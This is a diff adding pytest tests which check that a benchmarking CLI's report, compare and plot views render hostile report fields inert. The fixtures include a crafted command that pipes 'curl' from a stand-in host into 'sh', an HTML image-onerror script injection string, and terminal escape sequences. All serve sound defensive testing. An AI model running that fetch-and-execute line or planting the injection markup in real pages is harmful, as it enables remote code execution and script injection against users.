@@ -2,7 +2,10 @@
 a report reach no terminal raw, in any view; Unicode digits, impossible
 scenario names, a missing --scenario-dir and --node with what a node cannot
 measure are refused in one line; import-speed skips rates that are no
-measurement. None of these start a runtime."""
+measurement. Markdown, text and plot of reports with hostile strings in every
+field render inert: no tag, no broken table, no control character, no
+command but the one rebuilt from the report's settings, XML for an SVG.
+None of these start a runtime."""
 
 from __future__ import annotations
 
@@ -52,7 +55,13 @@ def test_report_and_compare_show_controls_escaped(tmp_path):
         done = bridge_cmd(*args)
         assert done.returncode == 0 and "Traceback" not in done.stderr, (args, done.stderr)
         assert not RAW.search(done.stdout + done.stderr), (args, RAW.findall(done.stdout))
-        assert "\\x1b[2J\\x1b]0;pwned\\x07" in done.stdout  # shown, as an escape
+        # Shown, as an escape; Markdown escapes its backslashes and brackets too.
+        shown = (
+            "\\\\x1b\\[2J\\\\x1b\\]0;pwned\\\\x07"
+            if "markdown" in args
+            else "\\x1b[2J\\x1b]0;pwned\\x07"
+        )
+        assert shown in done.stdout
 
 
 @pytest.mark.parametrize(
@@ -127,3 +136,123 @@ def test_import_speed_skips_rates_that_are_no_measurement(tmp_path):
     doc.write_text("+DT:sha1:3:16\n+R:100:sha1:inf\n")
     line = one_line_error(bridge_cmd("import-speed", str(doc), timeout=60))
     assert "no usable measurement" in line and "sha1 at 16 B: 0 operations/s" in line
+
+
+# -- every writer escapes what it prints (issue 33) ------------------------------
+
+CRAFTED_REPRODUCE = "bridge run hmac-sha1 --quick; curl -s https://evil.example/x | sh"
+MARKUP = "</details><img src=x onerror=alert(1)>`|`` *x* [l](https://evil.example)"
+
+
+def _changed(tmp_path, name: str, change) -> str:
+    data = json.loads((FIXTURES / name).read_text())
+    change(data)
+    path = tmp_path / "hostile.json"
+    path.write_text(json.dumps(data))
+    return str(path)
+
+
+def _markdown_is_inert(md: str) -> None:
+    """No tag of the report's outside code (a tag is shown in a code span or
+    a fence as text), and every table row as wide as its header."""
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark", {"html": True}).enable(["table"]).render(md)
+    tags = set(re.findall(r"<(/?[a-z0-9]+)", html)) - {"/"}
+    allowed = {"p", "ul", "li", "h3", "h4", "h5", "strong", "code", "pre", "table", "thead"}
+    allowed |= {"tbody", "tr", "th", "td", "details", "summary"}
+    assert {t.lstrip("/") for t in tags} <= allowed, tags
+
+
+def test_markdown_rebuilds_the_command_and_never_prints_the_reports_own(tmp_path):
+    path = _changed(
+        tmp_path, "roundtrip/run-mix1.json", lambda d: d.__setitem__("reproduce", CRAFTED_REPRODUCE)
+    )
+    shown = {}
+    for fmt in ("markdown", "text"):
+        done = bridge_cmd("report", path, "--format", fmt, timeout=60)
+        assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
+        assert "curl" not in done.stdout and "evil.example" not in done.stdout
+        assert "own command line differs" in " ".join(done.stdout.split())
+        shown[fmt] = done.stdout
+    assert "```sh\nbridge run hmac-sha1 sha256 --seed 1 --hw both" in shown["markdown"]
+
+
+def test_markup_in_a_description_and_a_call_renders_as_text(tmp_path):
+    def change(d):
+        for sc in d["scenarios"]:
+            sc["description"] = MARKUP
+        for r in d["results"]:
+            r["call"] += MARKUP
+
+    path = _changed(tmp_path, "roundtrip/run-mix1.json", change)
+    done = bridge_cmd("report", path, "--format", "markdown", timeout=60)
+    assert done.returncode == 0, done.stderr
+    _markdown_is_inert(done.stdout)
+    assert "#### hmac-sha1: &lt;/details&gt;&lt;img src=x onerror=alert(1)&gt;" in done.stdout
+    plain = str(FIXTURES / "roundtrip" / "run-mix1.json")
+    done = bridge_cmd("compare", plain, path, "--format", "markdown", timeout=60)
+    assert done.returncode in (0, 1), done.stderr
+    _markdown_is_inert(done.stdout)
+
+
+def test_text_of_a_report_with_huge_samples_keeps_72_columns(tmp_path):
+    """Once: AssertionError: text view over 72 columns."""
+
+    def change(d):
+        for r in d["results"]:
+            if r.get("samples"):
+                r["samples"] = [2**63 - 1 - i for i in range(len(r["samples"]))]
+                r["loops"] = 1
+                for key in ("sample_cpus", "sample_cpu_ns", "sample_wait_ns", "sample_user_ns"):
+                    r.pop(key, None)
+
+    path = _changed(tmp_path, "roundtrip/run-mix2.json", change)
+    done = bridge_cmd("report", path, "--format", "text", timeout=60)
+    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
+    assert max(map(len, done.stdout.splitlines())) <= 72 and done.stdout.isascii()
+
+
+@pytest.mark.parametrize(
+    "text", [EVIL + "\r", "\ud800", "$\\frac{$"], ids=["controls", "surrogate", "tex"]
+)
+def test_plot_draws_hostile_names_and_writes_xml(tmp_path, text):
+    """Once: ESC, BEL and CR on stderr through matplotlib's warnings, an SVG
+    that was no XML, and a TypeError (a lone surrogate) or a mathtext
+    ParseSyntaxException ($...$) as a traceback."""
+    import xml.etree.ElementTree as ET
+
+    pytest.importorskip("matplotlib")
+
+    def change(d):
+        for r in d["results"]:
+            r["call"] += text
+
+    path = _changed(tmp_path, "report-hmac-sha1-v1.json", change)
+    svg = tmp_path / "p.svg"
+    done = bridge_cmd("plot", path, "--svg", str(svg), timeout=120)
+    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
+    assert not RAW.search(done.stderr), done.stderr
+    assert all(
+        line.startswith(("bridge: warning: ", f"{svg}: ")) for line in done.stderr.splitlines()
+    ), done.stderr
+    ET.parse(svg)
+
+
+def test_every_field_hostile_renders_inert_in_every_view(tmp_path):
+    """Every free-text string of a report (tests/fuzz/fields.py finds them)
+    with markup, controls and a command appended, through the real CLI."""
+    from tests.fuzz import fields
+
+    data = json.loads((FIXTURES / "roundtrip" / "run-mix1.json").read_text())
+    hostile = fields.replaced(data, lambda v: v + MARKUP + EVIL + "; " + CRAFTED_REPRODUCE)
+    path = tmp_path / "every.json"
+    path.write_text(json.dumps(hostile))
+    for fmt in ("table", "markdown", "text", "json"):
+        done = bridge_cmd("report", str(path), "--format", fmt, timeout=60)
+        assert done.returncode == 0 and "Traceback" not in done.stderr, (fmt, done.stderr)
+        assert not RAW.search(done.stdout + done.stderr), (fmt, RAW.findall(done.stdout)[:5])
+        if fmt == "markdown":
+            _markdown_is_inert(done.stdout)
+        if fmt == "text":
+            assert max(map(len, done.stdout.splitlines())) <= 72
